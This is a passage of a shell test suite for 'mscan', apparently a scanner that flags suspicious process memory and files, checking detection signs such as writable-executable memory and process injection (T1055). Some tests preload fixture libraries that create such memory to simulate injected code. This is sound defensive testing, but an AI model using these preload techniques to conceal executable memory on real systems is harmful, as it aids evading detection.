	closure=${closure//$'\t'/}
	kind_of() { jq -r "select(.kind == \"memory\" and .size $1) | .signs[].name" x/code/*/about.json | sort -u; }
	# libffi's closure, in a program of a package.
	start "$python" -c "$closure"
	scan -p "$pid"
	[ "$(kind_of '> 0' | tr '\n' ' ')" = "jit-memory " ]
	no_sign "$(sha "$python")" memory-code
	# More than libffi ever makes at once.
	LD_PRELOAD=$PWD/large.so start "$python" -c "$closure"
	scan -p "$pid"
	[[ "$(kind_of '>= 409600')" == *anonymous-exec*wx-memory* ]]
	[[ "$(kind_of '< 409600')" == jit-memory ]]
	# Nor is its memory ever without the right to write.
	LD_PRELOAD=$PWD/fixed.so start "$python" -c "$closure"
	scan -p "$pid"
	[[ "$(kind_of '> 0')" == *anonymous-exec*jit-memory* ]]
	# No runtime is mapped.
	LD_PRELOAD=$PWD/maker.so sleep 100 3>&- 4>&- &
	pid=$!
	for _ in {1..100}; do grep -q maker "/proc/$pid/maps" && grep -q rwxp "/proc/$pid/maps" && break; sleep 0.02; done
	sleep 0.1
	scan -p "$pid"
	[[ "$(kind_of '> 0')" == anonymous-exec*wx-memory* ]]
	has_sign "$(sha "$(readlink -f "$(command -v sleep)")")" memory-code
	# The same runtime in a copy that no package owns.
	cp "$python" copy
	start ./copy -c "$closure"
	scan -p "$pid"
	[[ "$(kind_of '> 0')" == *anonymous-exec* ]]
	[[ "$(kind_of '> 0')" != *jit-memory* ]]
}

@test "an interpreter that was given nothing to read" {
	cp "$ACTOR" java
	start "$PWD/java" plain
	mscan -p "$pid" -o c.case
	opened
	[ "$(find x/code -name about.json -exec jq -r 'select(.kind == "script") | .kind' {} + | wc -l)" -eq 0 ]
}

@test "signs are explained" {
	run --separate-stderr mscan --list-signs
	[ "$status" -eq 0 ] && [ -z "$stderr" ]
	[ "${#lines[@]}" -eq "$(jq '.signs | length' "$ROOT/rules/criteria.json")" ]
	run --separate-stderr mscan --explain text-modified
	[ "$status" -eq 0 ]
	[[ $output == *"group memory"*"weight "*"T1055"* ]]
	fails 64 mscan --explain nonsense
	fails 74 sh -c 'mscan --list-signs >/dev/full'
	# Where a weight comes from.
	cat >criteria.json <<-'END'
		{"format": "muss-criteria/1", "submit": 12.5, "signs": [
		{"name": "fresh", "source": "host", "group": "age", "weight": 12.5, "estimate": 3, "hits": [40, 900, 7, 1234], "over": "old", "meaning": "New."},
		{"name": "old", "source": "host", "group": "age", "weight": 4, "meaning": "Old."}]}
	END
	export MUSS_SHARE=$TMP
	run --separate-stderr mscan --explain fresh
	[[ ${lines[1]} == "  New." ]]
	[[ $output == *"weight 12.5 decibans (17.8 times likelier"*"fired on 40 of 900 suspicious and 7 of 1234 benign cases; estimated before at 3.0"*"never weighs less than old"* ]]
	[[ "$(mscan --explain old)" == *"estimated: no labelled observation bears it" ]]
	[[ "$(mscan --list-signs)" == *" 12.5  New."*" 4.0~ Old." ]]
}

@test "-s submit: the criteria's threshold" {
	mkdir t
	printf '#!/bin/sh\n' >t/a
	cat >criteria.json <<-'END'
		{"format": "muss-criteria/1", "submit": 12.5, "signs": [
		{"name": "fresh", "source": "host", "group": "age", "weight": 12.5, "meaning": "New."},
		{"name": "temporary-place", "source": "host", "group": "place", "weight": 0, "meaning": "Temporary."},
		{"name": "unowned", "source": "host", "group": "identity", "weight": 0, "meaning": "Unowned."}]}
	END
	[ "$(MUSS_SHARE=$TMP mscan -s submit -f t/a | mls -j | wc -l)" -eq 1 ]
	sed -i 's/"submit": 12.5/"submit": 12.6/' criteria.json
	[ "$(MUSS_SHARE=$TMP mscan -s submit -f t/a | mls -j | wc -l)" -eq 0 ]
	[ "$(MUSS_SHARE=$TMP mscan -f t/a | mls -j | wc -l)" -eq 1 ]
	fails 64 mscan -s submitted
}

@test "mscan(1) documents every sign, and no other" {
	jq -r '.signs[].name' "$ROOT/rules/criteria.json" | sort >listed
	sed -n '/^\.Ss Signs/,/^\.Sh /s/^\.It Li \([a-z0-9-]*\)$/\1/p' "$ROOT/man/mscan.1" | sort -u >documented
	diff listed documented
}

@test "usage" {
	fails 64 mscan -p 0
	fails 64 mscan -p 12x
	fails 64 mscan -s high
	fails 64 mscan -s nan
	fails 64 mscan -s inf
	fails 64 mscan -f
	fails 64 mscan operand
	fails 64 mscan -p 1 -f /bin/sh
	fails 64 mscan --no-such-option
	fails 66 mscan -p 4194303
	fails 66 mscan -f /nonexistent
	fails 66 mscan -f /dev/null
	fails 66 mscan -R /nonexistent
	run mscan -h
	[ "$status" -eq 0 ]
	[[ $output == *usage:*examples:*exit:* ]]
	run mscan -V
	[ "$status" -eq 0 ]
}

@test "a full disk is an error and leaves no case; bad criteria are 78" {
	start "$ACTOR" anonymous
	fails 74 sh -c 'mscan -p "$1" >/dev/full' sh "$pid"
	fails 74 mscan -p "$pid" -o /dev/full
	fails 74 mscan -p "$pid" -o "$TMP/no/such/folder"
	mkdir share
	echo '{}' >share/criteria.json
	MUSS_SHARE=$TMP/share fails 78 mscan -p "$pid"
	rm share/criteria.json
	MUSS_SHARE=$TMP/share fails 66 mscan -p "$pid"
	if [ "$(id -u)" -eq 0 ]; then
		mkdir small
		# shellcheck disable=SC2016
		fails 74 unshare --mount -- sh -c 'mount -t tmpfs -o size=4k none small && TMPDIR=$PWD/small exec mscan -p "$1" -o big.case' sh "$pid"
		[ ! -e big.case ]
	fi
}

@test "killed at any time, it leaves nothing" {
	for t in 0.005 0.02 0.06 0.15; do
		timeout -s KILL "$t" mscan -o killed.case || :
		[ ! -e killed.case ] || bsdtar -tf killed.case | grep -q MANIFEST
		rm -f killed.case
	done
	[ "$(find . -mindepth 1 -not -name ready | wc -l)" -eq 0 ]
}

@test "-w leaves out what the index knows, as mwhite does" {
	mkdir "$TMP/good"
	cp /bin/true "$TMP/good/true"
	printf '#!/bin/sh\n# not known\n' >"$TMP/unknown"
	mwhite build -q -o "$TMP/idx" --dir "$TMP/good"
	mscan -w "$TMP/idx" -f "$TMP/good/true" "$TMP/unknown" >"$TMP/w.case"
	mscan -f "$TMP/good/true" "$TMP/unknown" | mwhite -d "$TMP/idx" >"$TMP/p.case"
	run mls -j "$TMP/w.case"
	[[ $output == *"$TMP/unknown"* && $output != *"$TMP/good/true"* ]]
	[ "$(mls -j "$TMP/w.case" | jq -r .sha256)" = "$(mls -j "$TMP/p.case" | jq -r .sha256)" ]
	echo junk >"$TMP/idx"
	fails 65 mscan -w "$TMP/idx" -f "$TMP/unknown"
}
